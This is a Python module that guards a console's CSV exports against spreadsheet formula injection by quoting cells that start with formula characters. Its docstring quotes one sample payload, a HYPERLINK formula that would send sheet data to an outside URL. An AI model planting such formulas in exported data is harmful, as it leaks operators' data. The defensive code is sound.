"""Cells a spreadsheet will not run: the one place every CSV the console writes goes through.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a formula
by Excel, LibreOffice and Google Sheets (``=HYPERLINK("http://…"&A1,"open")`` in a reservation's
name would send the sheet's data away when an operator clicks it). As OWASP's CSV-injection
guidance says, such a cell is prefixed with a single quote, which the spreadsheet shows as text
and does not evaluate. Numbers stay numbers: a cell that is only a number (``-3``, ``+1.5e3``) is
written as it is, since no formula can hide in it. Pure Python (the designer's exports use it
too); the JSON answers are never touched.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any

#: What makes a spreadsheet read a cell as a formula (OWASP: = + - @ tab CR).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value``, with a text that a spreadsheet would run as a formula made inert."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


class SafeWriter:
    """:func:`csv.writer` whose rows are made safe (``writerow``, ``writerows``)."""

    def __init__(self, out: Any, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter(csv.DictWriter):
    """:class:`csv.DictWriter` whose values are made safe (the header is the console's own)."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({key: safe_cell(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)
